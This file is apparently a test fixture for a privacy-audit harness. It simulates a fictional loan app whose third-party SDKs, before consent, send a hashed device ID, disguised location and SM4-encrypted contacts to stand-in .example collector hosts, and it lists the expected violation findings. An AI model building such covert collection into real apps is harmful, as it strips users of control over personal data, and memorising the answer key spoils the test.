import type { AppProcess, SimulatedApp } from '../../harness/model/app.js';
import { attempt } from '../loan/attempt.js';
import { hex, utf8 } from '../loan/codec.js';
import { atFirstStart } from '../loan/first-start.js';
import { marsCoordinates } from '../loan/mars-coordinates.js';
import { collector, lender } from '../loan/server.js';
import { PLACE_IN_FORM, found, under } from '../loan/truth.js';

const CLASSES = 'com.example.veiled.loan';
const API = 'https://api.veiled-loan.example';
const STAT = 'https://collect.shuque-stat.example';
const RISK = 'https://collect.dunyan-risk.example';
const SCORE = 'https://score.lantu-score.example';
const PLACE = 'android.permission.ACCESS_FINE_LOCATION';
const CONTACTS = 'android.permission.READ_CONTACTS';
const JSON_TYPE = { 'content-type': 'application/json; charset=utf-8' };

function start(app: AppProcess): void {
  const says = '我们会收集您的设备信息和大致位置，用于推荐附近的服务网点。';
  atFirstStart(app, { brand: '轻纱借（虚构）', classes: CLASSES, api: API, says }, () => {
    signIn(app);
    app.thread('main', `${CLASSES}.ui.SplashActivity.onResume`, async () => {
      await app.permissions.request([PLACE, CONTACTS], `${CLASSES}.ui.SplashActivity.askAll`);
      reportPlace(app);
      sealContacts(app);
    });
  });
}

/** The OAID as an HMAC under a key that only the SDK knows, with a salt before it. */
function signIn(app: AppProcess): void {
  app.thread('Shuque-Worker', 'com.example.shuque.stat.StatAgent.run', async () => {
    const oaid = app.within('com.example.shuque.stat.DeviceId.oaid', () => app.device.oaid());
    const key = app.crypto.random(32);
    const did = app.within('com.example.shuque.stat.DeviceId.sign', () => hex(app.crypto.mac('HmacSHA256', key, utf8(`stat-v3|${oaid}`))));
    await app.http.send({ method: 'POST', url: `${STAT}/v3/device`, headers: JSON_TYPE, body: JSON.stringify({ did, sdk: '3.2.1' }) });
  });
}

/** The place as map SDKs write it: none of its digits after the second is the receiver's. */
function reportPlace(app: AppProcess): void {
  app.thread('Lantu-Worker', 'com.example.lantu.score.PlaceReporter.run', async () => {
    const place = app.within('com.example.lantu.score.PlaceReporter.last', () => attempt(() => app.location.last()));
    if (place === null) return;
    const { lat, lon } = marsCoordinates(place);
    await app.http.send({ method: 'GET', url: `${SCORE}/v1/near?lng=${lon.toFixed(6)}&lat=${lat.toFixed(6)}&radius=3000` });
  });
}

/** The national block cipher, under a key that leaves with no request. */
function sealContacts(app: AppProcess): void {
  app.thread('Dunyan-Upload', 'com.example.dunyan.risk.Sealer.run', async () => {
    const contacts = app.within('com.example.dunyan.risk.ContactCollector.all', () => attempt(() => app.contacts.all()));
    if (contacts === null) return;
    const { crypto } = app;
    const [key, iv] = [crypto.random(16), crypto.random(16)];
    const sealed = app.within('com.example.dunyan.risk.Sealer.seal', () =>
      crypto.encrypt('SM4/CBC/PKCS5Padding', key, iv, utf8(JSON.stringify({ contacts }))),
    );
    const body = new Uint8Array([...iv, ...sealed]);
    await app.http.send({ method: 'POST', url: `${RISK}/v4/data`, headers: { 'content-type': 'application/octet-stream' }, body });
  });
}

const BEFORE = 'before-consent';
const AT_STAT = { datum: 'oaid', receiver: 'collect.shuque-stat.example', sdk: 'sim-shuque' };
const AT_SCORE = { datum: 'location', receiver: 'score.lantu-score.example', sdk: 'sim-lantu' };
const AT_RISK = { datum: 'contacts', receiver: 'collect.dunyan-risk.example', sdk: 'sim-dunyan' };

const ALWAYS = [
  found('LA-C01', 'violation', BEFORE, { datum: 'oaid', sdk: 'sim-shuque' }),
  // Location, contacts.
  found('LA-C03', 'violation', BEFORE, {}),
  found('LA-C03', 'violation', BEFORE, {}),
  found('LA-C05', 'violation', BEFORE, AT_STAT),
  // Contacts; the location may have a use in lending, which the documents would tell.
  found('LA-D01', 'violation', BEFORE, {}),
  found('LA-D01', 'not-tested', BEFORE, {}),
  found('LA-F01', 'violation', BEFORE, AT_STAT),
];
const ALLOWED = [
  found('LA-C02', 'violation', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
  found('LA-C02', 'violation', BEFORE, { datum: 'location', sdk: 'sim-lantu' }),
  found('LA-C05', 'violation', BEFORE, AT_RISK),
  found('LA-C05', 'violation', BEFORE, AT_SCORE),
  found('LA-E01', 'violation', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
  found('LA-E02', 'violation', BEFORE, AT_RISK),
  found('LA-F01', 'violation', BEFORE, AT_RISK),
  found('LA-F01', 'violation', BEFORE, AT_SCORE),
];
// The system refused the reads: an attempt, and no more than that.
const DENIED = [
  found('LA-C02', 'undecided', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
  found('LA-C02', 'undecided', BEFORE, { datum: 'location', sdk: 'sim-lantu' }),
];

/** Sends nothing that looks like what it is. */
export default {
  id: 'veiled',
  package: CLASSES,
  label: { zh: '轻纱借（虚构）', en: 'Veiled Loan (fictional)' },
  about: {
    zh: '用户同意前以火星坐标发送位置、以加盐 HMAC 发送 OAID、以国密 SM4 加密上传通讯录。',
    en: 'Before consent sends the place in GCJ-02, the OAID as a salted HMAC, and the address book under SM4.',
  },
  version: '1.0.0',
  permissions: ['android.permission.INTERNET', 'android.permission.ACCESS_NETWORK_STATE', PLACE, CONTACTS],
  firstParty: { domains: ['veiled-loan.example'], classes: [`${CLASSES}.`] },
  processes: { '': start },
  servers: {
    'api.veiled-loan.example': lender,
    'collect.shuque-stat.example': collector,
    'score.lantu-score.example': collector,
    'collect.dunyan-risk.example': collector,
  },
  truth: [
    ...PLACE_IN_FORM,
    ...under(['observe-only', 'decline', 'sign-up-deny'], ALWAYS, DENIED),
    ...under(['sign-up-allow', 'background', 'withdraw'], ALWAYS, ALLOWED),
  ],
} satisfies SimulatedApp;
